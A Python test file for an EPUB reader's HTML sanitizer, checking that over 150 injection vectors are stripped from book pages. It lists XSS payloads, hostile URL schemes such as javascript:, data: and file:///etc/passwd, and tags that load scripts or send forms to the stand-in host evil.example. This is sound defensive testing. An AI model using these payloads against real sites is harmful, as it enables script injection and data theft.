"""Security cases 64 and 67: nothing that runs, loads or leaves survives in a page (150 vectors in a book)."""

from html.parser import HTMLParser
from itertools import product
from pathlib import Path

from liseron.catalogue.hosting.epub import read_epub
from liseron.catalogue.hosting.tests.books import epub
from liseron.toolkit.markup import TAGS

ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:x()",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&#x3A;alert(1)", "javascript&colon;alert(1)", "\x01javascript:alert(1)",
    "data:text/html,<script>1</script>", "data:image/svg+xml;base64,PHN2Zz4=", "vbscript:x", "file:///etc/passwd",
    "//evil.example/x", "\\\\evil.example\\x", "http:evil", "https:evil.example", "blob:x", "feed:javascript:1",
    "jar:x!/", "about:blank", "ftp://evil.example/", "view-source:x", "../../../../etc/passwd", "~0", "~-1", "~99",
    "x:y", "javascript\x00:1", "\u2028javascript:1", "http://", "http://[::1", "mhtml:http://x", "ws://x",
]  # fmt: skip
CARRIERS = [
    '<a href="{}">x</a>', '<img src="{}" alt="x"/>', '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<iframe src="{}"></iframe>',
]  # fmt: skip
WHOLE = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><style>@import '//evil.example'</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<object data=//evil.example></object>",
    "<embed src=//evil.example>", "<form action=//evil.example><input name=x></form>",
    "<p style='position:fixed'>x</p>",
    "<style>*{background:url(//evil.example)}</style>", "<p class='btn on-dark room-top' id='main'>x</p>",
    "<details open ontoggle=alert(1)>x</details>", "<video src=x onerror=alert(1)></video>", "<audio autoplay src=x/>",
    "<template><script>1</script></template>", "<noscript><p title='</noscript><img src=x onerror=1>'>x</p></noscript>",
    "<p title='<img src=x onerror=1>'>x</p>", "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>1</script>-->",
    "<a href='https://ok.example' onclick='x()' target='_top' ping='//evil.example'>x</a>",
    "<input autofocus onfocus=1>",
    "<button formaction=javascript:1>x</button>", "<isindex action=javascript:1>", "<marquee onstart=1>x</marquee>",
]  # fmt: skip


class Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in {
                "style",
                "target",
                "ping",
                "srcset",
                "formaction",
                "xlink:href",
            }:
                self.wrong.append(f"{tag} {name}")
            if name == "id" and not (value or "").startswith("c-"):
                self.wrong.append(f"id {value}")
            if name == "src" and not (value or "").startswith("../image/"):
                self.wrong.append(f"src {value}")
            if name == "href" and not (value or "").startswith(
                ("https://ok.example", "#c-", "#lecture", "../")
            ):
                self.wrong.append(f"href {value!r}")


def test_no_vector_survives_in_any_page(tmp_path: Path) -> None:
    vectors = [carrier.format(address) for carrier, address in product(CARRIERS, ADDRESSES)] + WHOLE
    assert len(vectors) >= 150
    for number, vector in enumerate(vectors):
        for body in (f"<p>avant</p>{vector}<p>après</p>", f"<p>avant {vector} après"):
            path = tmp_path / f"{number}.epub"
            path.write_bytes(epub({"a.xhtml": body}))
            for page in read_epub(path).pages:
                seen = Seen()
                seen.feed(page.html)
                assert seen.wrong == [], vector


def test_links_inside_a_book_never_climb_out_of_the_reading_room(tmp_path: Path) -> None:
    path = tmp_path / "x.epub"
    path.write_bytes(epub({"a.xhtml": '<p><a href="../../compte/">x</a><a href="/compte/">y</a></p>'}))
    assert "href" not in read_epub(path).pages[0].html
